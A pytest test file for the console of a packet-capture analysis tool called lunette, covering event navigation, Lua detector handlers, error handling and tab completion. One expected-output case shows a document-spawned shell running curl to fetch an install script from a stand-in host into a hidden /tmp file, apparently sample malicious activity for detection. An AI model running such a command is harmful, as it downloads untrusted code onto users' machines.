"""`lunette console`: what is shown at the prompt is what replay records of the same capture; mistakes are answered, and
nothing a person types ends the session."""
import json
import os
import pathlib
import pty
import re
import select
import subprocess
import sys
import time

import pytest

sys.path.insert(0, str(pathlib.Path(__file__).resolve().parents[1] / "corpus"))
from captures import EXAMPLES, LUNETTE, needs_lunette  # noqa: E402

pytestmark = needs_lunette

HANG = 60
CAPTURE = EXAMPLES / "mac-first-boot.pcapng.gz"


def console(lines, *arguments, capture=CAPTURE):
    ran = subprocess.run([LUNETTE, "console", *map(str, arguments), capture], input="\n".join(lines) + "\n",
                         capture_output=True, text=True, timeout=HANG)
    assert ran.returncode == 0, ran.stderr
    return ran.stdout


@pytest.fixture(scope="module")
def records(tmp_path_factory):
    path = tmp_path_factory.mktemp("records") / "all.jsonl"
    subprocess.run([LUNETTE, "replay", "-q", "--no-scripts", "-o", path, CAPTURE], check=True, timeout=HANG)
    return [json.loads(line) for line in path.read_text().splitlines()]


def test_next_of_a_kind_goes_through_the_records_of_that_kind(records):
    wanted = [r["dns"].get("rrname") for r in records if r["event_type"] == "dns"][:40]
    lines = ["next dns"] + ["e.rrname", ""] * len(wanted)
    shown = re.findall(r'^"([^"]*)"$', console(lines), re.M)
    assert shown == wanted


def test_until_stops_where_it_is_true(records):
    names = [r["tls"].get("sni") for r in records if r["event_type"] == "tls"]
    wanted = [n for n in names if n and n.endswith("icloud.com")]
    assert len(wanted) > 1
    condition = 'until e.sni and e.sni:find("icloud%.com$")'
    shown = re.findall(r'^"([^"]*)"$', console([condition, "e.sni", condition, "e.sni"]), re.M)
    assert shown == wanted[:2]


def test_show_has_the_fields_of_the_record(records):
    first = next(r for r in records if r["event_type"] == "tls")
    shown = console(["next tls", "show"])
    assert re.search(rf'^  sni +"{re.escape(first["tls"]["sni"])}"$', shown, re.M)
    assert re.search(rf'^  client_port +{first["src_port"]}$', shown, re.M)
    assert re.search(rf'^  ja4 +"{first["tls"]["ja4"]}"$', shown, re.M)
    assert re.search(r"^  server_local +false$", shown, re.M)


def test_until_with_a_field_that_there_is_not_is_told_at_once():
    shown = console(['until e.urll == "e.com"', "6 * 7"])
    assert "no event has a field 'urll'; did you mean 'url'?\n42\n" in shown
    for condition in ('until e.rrname == "e.urll" or e.rrname', "until e['rrname'] and (x or { e = { urll = 1 } }).e.urll"):
        assert "\n42\n" not in (shown := console([condition, "e.rrname"])) and "no event" not in shown
        assert re.search(r'^"[a-z0-9.-]+"$', shown, re.M)


def test_until_with_a_field_that_no_event_had_is_told_at_the_end():
    shown = console(["until e['urll'] == 1"])
    assert re.search(r"^until: no event had a field 'urll'; did you mean 'url'\?\nend of the capture", shown, re.M)
    assert "no event had" not in console(["until e.rrname == 'nothing'"])


def test_a_handler_tried_at_the_prompt_sees_what_a_detector_would(tmp_path):
    body = 'if #e.rrname > 22 then lunette.alert { title = "Long", who = e.client_ip, where = e.rrname, why = "long" } end'
    script = tmp_path / "long.lua"
    script.write_text('local lunette = require "lunette"\nlunette.detector { title = "Long" }\n'
                      f'lunette.on("dns", {{ type = "query" }}, function(e) {body} end)\n')
    by_replay = subprocess.run([LUNETTE, "replay", "--no-summary", "--color", "never", "-s", script, CAPTURE],
                               capture_output=True, text=True, timeout=HANG, check=True).stdout
    by_prompt = console([f'on("dns", {{ type = "query" }}, function(e) {body} end)', "end"])
    pattern = re.compile(r"^(?:MEDIUM) +(\S+ \S+) .*\n +who +(.*)$", re.M)
    assert pattern.findall(by_replay)
    assert pattern.findall(by_prompt) == pattern.findall(by_replay)
    by_load = console([f"load {script}", "end"])
    assert pattern.findall(by_load) == pattern.findall(by_replay)


def test_alert_stops_at_each_alert(tmp_path):
    script = tmp_path / "asked.lua"
    script.write_text('local lunette = require "lunette"\nlunette.detector { title = "Asked" }\n'
                      'lunette.on("dns", { rrname = "captive.apple.com" }, function(e)\n'
                      '    lunette.alert { who = e.client_ip, why = "asked" }\nend)\n')
    shown = console(["alert", "e.rrname", "quit"], "-s", script)
    assert shown.count("MEDIUM") == 1
    assert '"captive.apple.com"' in shown


def test_what_a_detector_emits_is_shown_as_its_record(tmp_path):
    script = tmp_path / "asks.lua"
    script.write_text('local lunette = require "lunette"\nlunette.event("name", { text = "str" })\n'
                      'lunette.on("dns", { type = "query" }, function(e) lunette.emit("name", { text = e.rrname }) end)\n')
    records = tmp_path / "asks.jsonl"
    subprocess.run([LUNETTE, "replay", "-q", "-s", script, "--record", "asks.name", "-o", records, CAPTURE], check=True,
                   timeout=HANG)
    shown = [line for line in console(["until false"], "-s", script).splitlines() if line.startswith("{")]
    wanted = [line for line in records.read_text().splitlines() if '"asks.name"' in line]
    assert wanted and [json.loads(line)["asks"] for line in shown] == [json.loads(line)["asks"] for line in wanted]


def test_restart_keeps_what_was_defined():
    shown = console(["limit = 7", "next dns", "restart", "limit + 1", "next dns", "e.type"])
    assert re.findall(r"^8$", shown, re.M)
    assert '"query"' in shown


@pytest.mark.parametrize("line, answer", [
    ("next dnss", "did you mean 'dns'"),
    ("e.rrnam", "attempt to index global 'e'.*; there is no event at hand: next"),
    ("e", "^there is no event at hand: next"),
    ("show", "^there is no event at hand: next"),
    ("nxt http", "'=' expected near 'http'\ndid you mean the command 'next'"),
    ("shwo", "did you mean the command 'show'"),
    ("unitl e.rrname", "did you mean the command 'until'"),
    ("until e.urll", "did you mean 'url'"),
    ("for for", "unexpected|expected"),
    ('on("dsn", print)', "did you mean 'dns'"),
    ("io.open('x')", "global 'io'"),
    ("error({})", "table"),
    ("load nowhere.lua", "nowhere.lua"),
    ("until", "until what"),
    ('until e.port +', "unexpected symbol"),
    ("lunette.on('dns', print)", "not in a handler"),
    ("('x'):rep(1e9)", "16 MiB"),
])
def test_mistakes_are_answered_and_the_session_goes_on(line, answer):
    assert re.search(answer, shown := console([line, "6 * 7"])), shown
    assert "\n42\n" in "\n" + shown


def test_bytes_off_the_wire_do_not_reach_the_terminal():
    assert "\x1b" not in console(['"\\27[2Jx"', 'on("dns", function(e) end)'])


def test_wrong_use():
    for arguments in ([], ["nowhere.pcap"], ["-o", "x.jsonl", CAPTURE]):
        ran = subprocess.run([LUNETTE, "console", *arguments], input="next\n", capture_output=True, text=True, timeout=HANG)
        assert ran.returncode == 2, arguments


class Terminal:
    def __init__(self):
        self.pid, self.fd = pty.fork()
        if self.pid == 0:
            os.environ["TERM"] = "xterm"
            os.execv(LUNETTE, [str(LUNETTE), "console", str(CAPTURE)])
        self.text = ""

    def until(self, pattern):
        deadline = time.monotonic() + HANG
        while not re.search(pattern, self.text):
            ready, _, _ = select.select([self.fd], [], [], max(0, deadline - time.monotonic()))
            assert ready, f"no {pattern!r} in:\n{self.text!r}"
            self.text += os.read(self.fd, 65536).decode(errors="replace")
        taken, self.text = self.text, ""
        return taken

    def type(self, keys):
        os.write(self.fd, keys.encode())


def test_tab_completes_fields_events_and_the_api():
    terminal = Terminal()
    try:
        terminal.until("lunette> ")
        terminal.type("next dn\t\n")
        terminal.until("dns> ")
        terminal.type("e.rrna\t\n")
        terminal.until(r'"[a-z0-9.-]+"\r')
        terminal.type("lunette.regi\t('www.bbc.co.uk')\n")
        terminal.until(r'"bbc\.co\.uk"')
        terminal.type("quit\n")
        _, status = os.waitpid(terminal.pid, 0)
        assert os.waitstatus_to_exitcode(status) == 0
    finally:
        os.close(terminal.fd)


@pytest.mark.parametrize("capture, kind, wanted", [
    ("document.pcapng.gz", "process", [
        "exec /bin/sh (811) sh -c curl -s http://updates.sample.example/install.sh -o /tmp/.i < Microsoft Word",
        "fork /bin/sh (812) < sh",
        "exec /usr/bin/curl (812) curl -s http://updates.sample.example/install.sh -o /tmp/.i < sh",
        "exit /usr/bin/curl (812) with 0"]),
    ("vpn.pcapng.gz", "vpn", ["192.168.7.23 → 198.51.100.22  ipsec esp data, certain: IP protocol 50, SPI c1f4a001"]),
    ("quic.pcapng.gz", "quic", ["192.168.7.23:51001 → 203.0.113.10:443  version 2 example.com [alpn]"]),
    ("lan.pcapng.gz", "dhcp", ["request 192.168.7.23 for f0:18:98:5e:21:07 Annas-MacBook-Pro (macOS 12 or later)",
                               "[fe80::f218:98ff:fe5e:2107]:546 → [ff02::1:2]:547  solicit"]),
    ("lan.pcapng.gz", "mdns", ["looks for _airplay._tcp, _raop._tcp, _universal._sub._ipp._tcp",
                               "tells Anna’s MacBook Pro _companion-link._tcp at annas-macbook-pro.local"]),
    ("text-protocols.pcapng.gz", "smtp", ["mail from <anna@mail.example> to bo@far.example, nobody@far.example (250)", "STARTTLS"]),
])
def test_the_line_of_an_event_says_the_essential(capture, kind, wanted):
    log = ["--host-log", EXAMPLES / "document.eslogger.jsonl"] if kind == "process" else []
    shown = console([f"next {kind}"] * 20, *log, capture=EXAMPLES / capture)
    for line in wanted:
        assert line in shown
    assert ":::0" not in shown
